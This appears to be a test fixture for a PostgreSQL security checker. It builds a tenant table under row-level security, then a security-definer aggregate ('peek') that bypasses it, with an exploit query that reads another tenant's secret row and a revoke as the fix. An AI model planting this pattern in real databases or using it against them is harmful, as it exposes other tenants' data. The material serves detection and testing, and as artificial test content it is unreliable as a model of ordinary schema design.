-- What: An aggregate whose transition function has its owner's rights; only the aggregate may be called.
-- Class: function_definer
-- Object: public.peek(bigint) | public.peek | public.peek_step(text, bigint)
-- Exploit: Call the aggregate.
-- @schema
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on items to app_user;
-- @superuser
create function peek_step(text, bigint) returns text language sql security definer
  set search_path = pg_catalog, pg_temp as $$ select i.body from public.items i where i.id = $2 $$;
create aggregate peek(bigint) (sfunc = peek_step, stype = text);
revoke execute on function peek_step(text, bigint) from public;
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
revoke execute on function peek(bigint) from public;
-- @control
select from items where tenant_id = :'A';
-- @exploit
select p from (select peek(2) as p) x where p = 'B-secret';
